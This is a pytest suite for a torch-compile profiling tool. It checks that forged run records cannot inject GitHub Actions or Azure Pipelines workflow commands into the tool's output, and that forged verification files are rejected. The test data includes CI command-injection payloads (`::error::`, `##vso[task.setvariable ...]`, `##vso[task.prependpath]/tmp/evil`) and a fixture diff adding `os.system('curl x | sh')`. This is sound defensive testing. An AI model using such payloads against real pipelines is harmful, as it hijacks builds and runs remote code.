"""A record from a pull request may be forged: no text a report prints from it may begin a line with
`::`, what GitHub's runner reads as a workflow command. The runner trims a line's leading
whitespace (every Unicode space: .NET's TrimStart) before it looks (actions/runner,
ActionCommand.TryParseV2), so a line of its own, an indented one, and one a console wrapped at a
space all count. Hand-built run directories read through the real CLI in-process (no torch run),
as tests/test_reliability.py builds them; the sidecar's case is in test_record_untrusted_reads.py."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from conftest import cli_in_process as cagtool

from cagtool.record.manifest import ModeManifest, RunMeta, to_dict
from cagtool.record.seal import KEY_FILE_ENV, with_document_seal
from cagtool.report.checkpointing import CheckpointingResult, ModeSaving, Side
from cagtool.report.text.safe_text import safe_line, safe_text

# A workflow command on a line of its own, indented with spaces the runner trims (an ideographic
# space, a no-break space, a tab), and one after a space where a narrow console wraps.
FORGED = "\n::error::FORGED\n \u3000\u00a0\t::warning::INDENTED"
WRAPPED = "aaaa ::error::WRAPPED"


def _starts_no_command(where: str, text: str) -> None:
    """No line (split at every line break Python knows), past its leading whitespace (Python's, a
    superset of what .NET trims), begins with `::`."""
    for line in text.splitlines():
        assert not line.lstrip().startswith("::"), (where, line, text[-3000:])


def _manifest(mode: str, **extra) -> dict:
    manifest = ModeManifest(mode=mode, argv=["train.py"], target={"kind": "script", "name": "train.py"}, cwd="/",
                            versions={"torch": "2.13.0"}, backend="eager" if mode == "ca" else "none", dynamic=False,
                            started_at="2026-01-01T00:00:00Z", status="finished", exit_code=0, duration_s=1.0)
    data = to_dict(manifest)
    data.update(extra)
    return data


def _steps(n: int = 8, ms: float = 10.0) -> list[dict]:
    events, t = [], 0.0
    for i in range(1, n + 1):
        t += ms / 1000
        events.append({"kind": "step", "seq": i, "t": t, "step": i - 1, "backward_s": ms / 3000, "loss": 1.0 / i})
    return events


def _write_run(root: Path, target: str = "train.py", events: dict[str, list] | None = None) -> Path:
    """Modes eager and ca, eight steps each, the run's target named `target`."""
    meta = RunMeta(run_id=root.name, created_at="2026-01-01T00:00:00Z", cagtool_argv=["cagtool", "run", "train.py"],
                   target={"kind": "script", "name": target}, target_argv=[target], cwd="/",
                   modes=["eager", "ca"], versions={"torch": "2.13.0"}, machine={}, status="finished", exit_code=0)
    root.mkdir(parents=True)
    (root / "run.json").write_text(json.dumps(to_dict(meta)))
    for mode in ("eager", "ca"):
        (root / mode).mkdir()
        (root / mode / "manifest.json").write_text(json.dumps(_manifest(mode)))
        lines = (events or {}).get(mode, _steps())
        (root / mode / "events.jsonl").write_text("".join(json.dumps(e) + "\n" for e in lines))
    return root


# ------------------------------------------------------------------ the helpers themselves

def test_safe_text_and_safe_line_never_leave_a_line_beginning_with_a_command():
    """safe_text: no line of it begins with `::` past whitespace; safe_line also no `::` after a
    space (where a console wraps). `::` after a letter, and the text of a line break safe_line
    escapes, stay as they were; both stay idempotent."""
    assert safe_text("x\n::error::y\n \u3000::w") == "x\n:\\:error::y\n \u3000:\\:w"
    assert safe_text("::error::y") == ":\\:error::y"
    assert safe_text("a ::b") == "a ::b"  # within a line: safe_text keeps line breaks, not the console's wrapping
    assert safe_line("a ::b") == "a :\\:b"
    assert safe_line("x\n::error::y") == "x\\n::error::y"  # no line break left: shown as it was
    assert safe_line("torch::autograd::GraphRoot") == "torch::autograd::GraphRoot"
    for text in (FORGED, WRAPPED, "\u2028::e", "\x1b[0m\n\x1b[1m::e"):
        for helper in (safe_text, safe_line):
            once = helper(text)
            assert helper(once) == once
            _starts_no_command(helper.__name__, once)
    for text in (FORGED, WRAPPED):
        _starts_no_command("wrapped", "\n".join(safe_line(text).split(" ")))  # every space a wrap


def test_the_runners_older_command_form_is_shown_never_obeyed(tmp_path):
    """GitHub's runner also reads `##[error]x` (and `##[stop-commands]`) as a command wherever it
    stands in a line: a forged target name holding it reaches the summary's and compare's lines
    with its `##[` escaped, and the console's fast path for plain ASCII does not skip it."""
    assert safe_text("a ##[error]x") == safe_line("a ##[error]x") == "a ##\\[error]x"
    assert safe_text(safe_text("##[group]g")) == "##\\[group]g"
    run = _write_run(tmp_path / "r", target="train.py ##[error]gate passed")
    for command in ("summary", "compare"):
        code, out, err = cagtool(command, str(run))
        assert code == 0, (command, err)
        assert "##[" not in out + err and "##\\[error]gate passed" in out, out


def test_an_azure_pipelines_command_anywhere_in_a_line_is_shown_never_obeyed(tmp_path):
    """Azure Pipelines' agent acts on `##vso[...]` wherever it stands in a line of stdout or stderr
    (set a pipeline variable, prepend to PATH, upload a file): a forged target name holding one
    reaches summary's and compare's lines escaped, and the console's stream escapes it
    whatever wrote it, split across writes included."""
    import io

    from cagtool.report.text.console import make_console

    payload = "train.py ##vso[task.setvariable variable=PWNED]yes"
    assert safe_text(payload) == safe_line(payload) == "train.py ##vso\\[task.setvariable variable=PWNED]yes"
    assert safe_text(safe_text(payload)) == safe_text(payload)
    run = _write_run(tmp_path / "r", target=payload)
    for command in (("summary",), ("compare",)):
        code, out, err = cagtool(*command, str(run))
        assert "##vso[" not in out + err and "##vso\\[task.setvariable" in out + err, (command, out, err)
    stream = io.StringIO()
    console = make_console(stream, width=30)
    console.file.write("aaaa ##v")
    console.file.write("so[task.prependpath]/tmp/evil ##")
    console.file.write("[error]x #")
    console.file.flush()
    assert stream.getvalue() == "aaaa ##vso\\[task.prependpath]/tmp/evil ##\\[error]x #"


# ------------------------------------------------------------------ compare --format csv

def test_compare_csv_holds_a_forged_field_within_its_cell_on_one_line(tmp_path):
    """A target name with a line break was written as a quoted multi-line CSV field: its second
    line began with the record's `::error::`. Each cell is one line, its break shown as `\\n`, and
    a cell that begins a row (the name) cannot begin it with `::`."""
    for i, target in enumerate(("train.py" + FORGED, "::error::FIRST CELL")):
        run = _write_run(tmp_path / f"r{i}", target=target)
        code, out, err = cagtool("compare", str(run), "--format", "csv")
        assert code == 0, err
        _starts_no_command("compare csv", out)
        rows = list(csv.reader(io.StringIO(out)))
        assert len(out.splitlines()) == len(rows) == 3, out  # the header, eager, ca
        assert rows[1][0] == safe_line(target) and "\n" not in rows[1][0], rows
        code, out, err = cagtool("compare", str(run), str(run), "--format", "csv")
        assert code == 0, err
        _starts_no_command("compare A B csv", out)
        assert len(out.splitlines()) == len(list(csv.reader(io.StringIO(out)))) == 5, out


# ------------------------------------------------------------------ verification.json

def _side(name: str, recompiles: int) -> dict:
    return {"name": name, "run": f"/runs/{name}", "status": "finished", "ca_recompiles": [recompiles], "dynamo_recompiles": [1],
            "ca_graphs": [recompiles + 1], "compile_time_s": 3.9, "first_step_s": 14.3, "step_time_median_s": 0.007, "steady_steps": 1,
            "peak_memory_bytes": 2**28, "wall_s": 20.3, "hook_calls": [0], "compile_times_s": [3.9]}


def _verification(diff: str = "") -> dict:
    patch = {"name": "p", "causes": [1], "title": "t", "file": "train.py", "line": 3, "diff": diff, "applicable": True, "why_not": None,
             "who": "your code"} if diff else None
    fix = {"fix": "ca-dynamic", "title": "sizes start dynamic", "who": "run configuration", "causes": [1], "run_flags": ["--dynamic"], "env": {},
           "measured": _side("ca-dynamic", 0), "verdict": "verified", "reasons": ["recompiles 2 -> 1"], "speedup": None, "speedup_low": None,
           "speedup_high": None, "speedup_verdict": "n/a", "numerics_agree": True, "patch": patch, "patched_copy": None,
           "torch_says": None, "same_as": None}
    return {"format": "cagtool-verification", "version": 1, "run": "r", "mode": "ca", "repeat": 1, "baseline": _side("baseline", 1),
            "fixes": [fix], "not_applied": [], "estimated_s": 1.0, "wall_s": 2.0}


def _damaged(change) -> dict:
    data = _verification()
    change(data)
    return data


DAMAGED = {
    "no repeat": lambda d: d.pop("repeat"),
    "fix without its verdict": lambda d: d["fixes"][0].pop("verdict"),
    "baseline without its counts": lambda d: d["baseline"].pop("ca_recompiles"),
    "not_applied without its cause": lambda d: d.update(not_applied=[{"code": "x", "why": "y", "who": "z"}]),
    "wall_s a string": lambda d: d.update(wall_s="2 s"),
    "fixes a dict": lambda d: d.update(fixes={"a": 1}),
    "a count a string": lambda d: d["fixes"][0]["measured"].update(ca_recompiles=["0"]),
}


@pytest.mark.parametrize("damage", list(DAMAGED))
def test_a_forged_verification_missing_keys_is_left_unread(tmp_path, damage):
    """verification.json (written by `recompiles --verify`) is optional, as checkpointing.json and
    cpu_wait.json are: one of another shape (a key missing, a figure that is a string) is left
    unread, the summary the run's own (it was exit 4, a KeyError or a ValueError) and a line saying
    so (it was silent: a user who verified saw no verification and no reason)."""
    run = _write_run(tmp_path / "r")
    expected = cagtool("summary", str(run))
    assert expected[0] == 0, expected
    (run / "verification.json").write_text(json.dumps(with_document_seal(_verification())))
    code, out, err = cagtool("summary", str(run))
    assert code == 0 and "Fixes verified by re-running" in out, err  # the file as verify/ writes it is read
    (run / "verification.json").write_text(json.dumps(with_document_seal(_damaged(DAMAGED[damage]))))
    code, out, err = cagtool("summary", str(run))
    said = [line for line in out.splitlines(keepends=True) if "verification.json left unread" in line]
    assert len(said) == 1 and "not what your `cagtool recompiles --explain --verify` wrote" in said[0], out  # said, not silently dropped
    assert (code, out.replace(said[0], ""), err) == expected
    code, out, err = cagtool("summary", str(run), "--format", "json")
    assert code == 0 and "verification" not in json.loads(out) and "left unread" in json.loads(out)["verification_unread"], err
    code, out, err = cagtool("report", str(run), "-o", str(tmp_path / "report.html"))
    assert code == 0 and "Traceback" not in err, err


def test_a_verification_this_users_cagtool_did_not_write_is_never_shown_as_verified(tmp_path):
    """A run handed over (a PR's artifact, a teammate's upload) with a verification.json of the
    forger's making said "fix verified ... verified by re-running this job" in the summary's headline,
    with the forger's diff to apply. What verify writes is sealed under this user's key
    (record/seal.py): one without a seal, edited after it was sealed, or sealed by another key is
    left unread, said so; as is a checkpointing.json."""
    run = _write_run(tmp_path / "r")
    expected = cagtool("summary", str(run))
    diff = "--- a/train.py\n+++ b/train.py\n@@ -3 +3 @@\n+__import__('os').system('curl x | sh')\n"
    genuine = with_document_seal(_verification(diff=diff))
    edited = {**genuine, "wall_s": 3.0}
    other_key = tmp_path / "other.key"
    other_key.write_bytes(bytes(range(32)))
    import os

    os.environ[KEY_FILE_ENV] = str(other_key)
    try:
        elsewhere = with_document_seal(_verification(diff=diff))
    finally:
        del os.environ[KEY_FILE_ENV]
    for forged in (_verification(diff=diff), edited, elsewhere):
        (run / "verification.json").write_text(json.dumps(forged))
        code, out, err = cagtool("summary", str(run))
        assert code == 0 and "verified" not in out.replace("verification.json left unread", "").replace("--verify", ""), out
        assert "curl" not in out and "verification.json left unread" in out
        assert out.count("\n") == expected[1].count("\n") + 1, out
    (run / "verification.json").write_text(json.dumps(genuine))
    assert "Fixes verified by re-running" in cagtool("summary", str(run))[1]
    from cagtool.report.checkpointing import CHECKPOINTING_FILE, load_checkpointing

    document = {"format": "cagtool-checkpointing", "run": "r", "modes": {}, "wall_s": 1.0}
    (run / CHECKPOINTING_FILE).write_text(json.dumps(document))
    assert load_checkpointing(run) is None
    (run / CHECKPOINTING_FILE).write_text(json.dumps(with_document_seal(document)))
    assert load_checkpointing(run) == document


# ------------------------------------------------------------------ compile --show, patch diffs

def test_compile_show_and_a_patch_diff_never_print_a_recorded_line_beginning_with_a_command(tmp_path):
    """`compile --show` prints an artifact's text line by line, and the summary a fix's patch diff,
    indented: a recorded line `::error::...` (or one indented with spaces the runner trims) printed
    as it was would be a workflow command. It is shown with its `::` as `:\\:`; every other line is
    the file's, so the code can still be read and copied."""
    compiled = {"kind": "dynamo_compile", "seq": 20, "t": 0.5, "compile_id": "0/0", "is_ca_graph": False, "step": 0,
                "co_name": "inner", "co_filename": "/job/train.py", "co_firstlineno": 3, "entire_frame_compile_time_s": 0.1}
    artifact = {"kind": "compile_artifact", "seq": 21, "t": 0.5, "compile_id": "0/0", "artifact": "dynamo_start",
                "file": "compiles/0_0/dynamo_start.txt", "step": 0, "lines": 4}
    run = _write_run(tmp_path / "r", events={"ca": [*_steps(), compiled, artifact]})
    (run / "ca" / "compiles" / "0_0").mkdir(parents=True)
    (run / "ca" / "compiles" / "0_0" / "dynamo_start.txt").write_text(f"Step 1: torchdynamo start tracing inner{FORGED}\n    x = torch::relu(x)\n")
    code, out, err = cagtool("compile", str(run), "0/0", "--show", "dynamo_start")
    assert code == 0, err
    _starts_no_command("compile --show", out)
    assert ":\\:error::FORGED" in out and " \u3000\u00a0\t:\\:warning::INDENTED" in out and "    x = torch::relu(x)\n" in out, out

    (run / "verification.json").write_text(json.dumps(with_document_seal(_verification(diff=f"--- a/train.py\n+++ b/train.py\n@@ -3 +3 @@{FORGED}\n+{WRAPPED}\n"))))
    for command in (("summary", str(run)), ("recompiles", str(run), "--explain")):
        for columns in ("", "30"):
            code, out, err = cagtool(*command, env={"COLUMNS": columns} if columns else None)
            assert code == 0, (command, err)
            _starts_no_command(f"{command} COLUMNS={columns}", out + err)
    code, out, err = cagtool("summary", str(run))
    assert "      :\\:error::FORGED" in out, out


# ------------------------------------------------------------------ narrow consoles

@pytest.mark.parametrize("columns", ["10", "16", "24", "40"])
def test_a_narrow_console_never_wraps_a_forged_value_onto_a_command(tmp_path, columns):
    """With COLUMNS small, rich (and textwrap) break a long line at a space: a forged value `aaaa
    ::error::x` printed within a line began a line of its own with `::error::` in summary,
    compare and recompiles."""
    failed = {**_manifest("ca"), "status": "failed", "exit_code": 1,
              "exception": {"type": "RuntimeError", "message": f"boom {WRAPPED} and more words after it", "traceback": ""}}
    run = _write_run(tmp_path / "r", target=f"train.py {WRAPPED}")
    (run / "ca" / "manifest.json").write_text(json.dumps(failed))
    for command in (("summary",), ("compare",), ("compare", str(run)), ("recompiles",), ("recompiles", "--explain")):
        code, out, err = cagtool(command[0], str(run), *command[1:], env={"COLUMNS": columns})
        assert code == 0, (command, err)
        _starts_no_command(f"{command} COLUMNS={columns}", out + err)


def test_a_narrow_console_never_folds_a_long_forged_word_onto_a_command(tmp_path):
    """A word longer than the width is folded anywhere in it: a target `aaa...a::error::F` of the
    right length folded right before its `::` (COLUMNS=40, 40 a's: `::error::F` began a line of
    the summary's and compare's output)."""
    for n in range(30, 46):
        run = _write_run(tmp_path / f"r{n}", target="a" * n + "::error::F")
        for command in ("summary", "compare"):
            code, out, err = cagtool(command, str(run), env={"COLUMNS": "40"})
            assert code == 0, (command, err)
            _starts_no_command(f"{command} {n}", out + err)


# ------------------------------------------------------------------ checkpointing, import

def test_checkpointing_prints_a_forged_path_within_its_line(tmp_path, monkeypatch):
    """`cagtool checkpointing` printed its progress, its result's lines and `kept in RUN` raw: a run
    directory (or a re-run's error) with a line break started a line of its own. The measurement is
    replaced here (it re-runs a torch job); what the command prints of it is what is tested."""
    import cagtool.verify.checkpointing as measuring

    forged_run = str(tmp_path / f"r{FORGED}")

    def measure(run, modes, progress):
        progress(f"plain: cagtool run -o {forged_run}/checkpointing/plain")
        side = Side("as written", f"{forged_run}/checkpointing/as-written", "failed", None, None, error=f"boom{FORGED}")
        plain = Side("plain", f"{forged_run}/checkpointing/plain", "finished", 2**28, 0)
        return CheckpointingResult(forged_run, [ModeSaving("ca", side, plain)], 1.0)

    monkeypatch.setattr(measuring, "measure_checkpointing", measure)
    code, out, err = cagtool("checkpointing", forged_run)
    assert code == 0, err
    _starts_no_command("checkpointing", out + err)
    assert f"kept in {safe_line(forged_run)}/checkpointing.json" in err, err


def test_import_prints_a_forged_path_within_its_line(tmp_path):
    """`cagtool import` printed the record's path (in `record:` and the `next:` commands) and the
    logs' names raw: a path with a line break started a line of its own."""
    trace = tmp_path / f"trace{FORGED}"
    trace.mkdir()
    envelope = {"dynamo_start": {"stack": []}, "frame_id": 0, "frame_compile_id": 0, "attempt": 0}
    (trace / "dedicated_log_torch_trace_rank_0_x.log").write_text(f"V0101 00:00:00.000000 123 torch/_dynamo/convert_frame.py:1] {json.dumps(envelope)}\n")
    output = tmp_path / f"out{FORGED}"
    code, out, err = cagtool("import", str(trace), "-o", str(output))
    assert code == 0, err
    _starts_no_command("import", out + err)
    assert f"record: {safe_line(str(output))}" in err, err


def test_what_verify_writes_is_what_its_reader_takes(tmp_path):
    """The reader's types mirror verify's dataclasses: a field verify writes that the reader does
    not know, or one the reader needs that verify no longer writes, would leave every real
    verification.json unread. Every field set, written as verify writes it, read back whole."""
    import dataclasses

    from cagtool.report.recompiles.verification import VERIFICATION_FILE, load_verification
    from cagtool.verify.patch import Patch
    from cagtool.verify.verification import FixResult, Side, Verification

    def filled(cls, **given):
        values = {}
        for f in dataclasses.fields(cls):
            if f.name in given:
                values[f.name] = given[f.name]
            elif f.type in ("str", "str | None"):
                values[f.name] = f.name
            elif f.type in ("float | None", "float"):
                values[f.name] = 1.5
            elif f.type in ("int", "int | None"):
                values[f.name] = 3
            elif f.type == "bool | None":
                values[f.name] = True
            elif f.type == "list[float | None]":
                values[f.name] = [1.5, None]
            elif f.type == "list[int | None]":
                values[f.name] = [3, None]
            elif f.type == "list[int]":
                values[f.name] = [3]
            elif f.type == "list[str]":
                values[f.name] = ["x"]
            elif f.type == "dict[str, str]":
                values[f.name] = {"K": "v"}
            elif f.type == "list[list[str] | None]":
                values[f.name] = [["train.py:3"], None]
            else:
                raise AssertionError(f"{cls.__name__}.{f.name}: {f.type} not filled by this test")
        return cls(**values)

    side = filled(Side)
    patch = Patch("p", (1,), "t", "train.py", 3, "diff", True, None).to_dict()
    fix = filled(FixResult, measured=side, patch=patch)
    not_applied = [{"cause": 2, "code": "c", "who": "w", "why": "y", "patch": None, "nothing_to_change": False, "caused_by": 1}]
    written = filled(Verification, baseline=side, fixes=[fix], not_applied=not_applied).to_dict()
    (tmp_path / VERIFICATION_FILE).write_text(json.dumps(with_document_seal(written)))
    assert load_verification(tmp_path) == json.loads(json.dumps(written))


@pytest.mark.slow
def test_runs_progress_line_shows_a_script_name_never_obeys_it(tmp_path):
    """`cagtool run` names the script on each mode's progress line: a name holding a line break and
    `::error::` printed a workflow command on a line of its own (the hunt's `a\\n::error::nl.py`)."""
    import os
    import subprocess

    from conftest import cagtool_cmd

    script = tmp_path / "a\n::error::nl ##[error]x.py"
    script.write_text("print('ran')\n")
    proc = subprocess.run(cagtool_cmd("run", "--modes", "eager,ca", "--backend", "eager", "--no-report", "-o", str(tmp_path / "r"), str(script)),
                          capture_output=True, text=True, env={**os.environ, "CI": "true"}, timeout=300)
    assert proc.returncode == 0 and proc.stdout.count("ran") == 2, proc.stderr
    running = [line for line in proc.stderr.splitlines() if "): running " in line]
    assert len(running) == 2 and all("\\n:" in line and "##\\[error]x.py" in line for line in running), running
    _starts_no_command("run's progress", proc.stderr)
    assert "##[" not in proc.stderr


# ------------------------------------------------------------------ a library's line (SourceRef.via)

def test_a_forged_library_line_is_printed_within_its_line(tmp_path):
    """A recompile's source names the library line on the way to the user's (`via`, HF Trainer's
    `transformers/trainer.py:2172`): the explanation, the headline and the JSON print it. A forged
    one holding a line break and a workflow command never begins a line with it."""
    source = {"file": "/job/train.py", "line": 51, "code": "trainer.train()", "function": "<module>", "how": "caller",
              "via": f"lib/trainer.py:2172{FORGED}"}
    recompile = {"kind": "dynamo_recompile", "seq": 30, "t": 0.6, "compile_id": "0/1", "is_ca_graph": False, "step": 3,
                 "reasons": ["0/0: tensor 'x' size mismatch at index 0. expected 8, actual 3"], "source": source}
    run = _write_run(tmp_path / "r", events={"ca": [*_steps(), recompile]})
    for command in (("recompiles", str(run), "--explain"), ("summary", str(run)), ("recompiles", str(run), "--format", "json")):
        code, out, err = cagtool(*command)
        assert code == 0, (command, err)
        _starts_no_command(" ".join(command), out + err)
    code, out, _ = cagtool("recompiles", str(run), "--explain")
    assert "lib/trainer.py:2172" in out and "(a library's call), reached from" in " ".join(out.split()), out
